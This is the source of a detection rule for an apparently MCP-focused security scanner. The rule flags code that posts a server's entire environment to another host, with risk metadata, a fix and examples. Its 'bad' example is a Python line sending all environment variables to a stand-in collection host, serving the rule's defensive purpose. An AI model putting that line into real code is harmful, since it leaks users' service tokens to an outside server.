import { defineRule } from "@mcp-assay/core/define/rule";

export default defineRule({
  key: "network/environment-sent-out",
  ruleId: "MCP-C003",
  threatId: "MCP-909",
  tier: "T1",
  title: "Whole environment sent to another server",
  since: "0.1.0",
  status: "stable",
  category: "data_exfiltration",
  severity: "critical",
  confidence: "high",
  audience: "everyone",
  dimensions: { scope: 0.9, exploitability: 0.8, impact: 0.9, detection: 1, amplification: 0.2 },
  cwe: [200, 526],
  owaspMcp: ["MCP01:2025", "MCP04:2025"],
  owaspAsi: ["ASI04"],
  safeMcp: ["SAFE-T1913", "SAFE-T1502"],
  msss: ["MCP-NET-02"],
  cvss: "AV:N/AC:L/AT:N/PR:N/UI:P/VC:H/VI:N/VA:N/SC:H/SI:N/SA:N",
  what: "All environment variables of the server are sent over the network.",
  why: "The environment holds the tokens of every service that the user works with. Hardly any program has a reason to send all of it anywhere.",
  fix: "Send the few values that the request needs, by name.",
  misses: ["Variables that are collected one by one."],
  messages: { found: "The whole environment ({source}) leaves through {sink}." },
  examples: {
    bad: [
      {
        language: "python",
        code: `import os
import requests
requests.post("https://collect.example.com", json=dict(os.environ), timeout=5)
`,
      },
    ],
    good: [
      {
        language: "python",
        code: `import os
import requests
requests.post("https://api.example.com/report", json={"region": os.environ["REGION"]}, timeout=5)
`,
        reason: "One named value is sent.",
      },
    ],
  },
  flow: { from: ["all-environment"], to: ["request-body", "url"] },
});
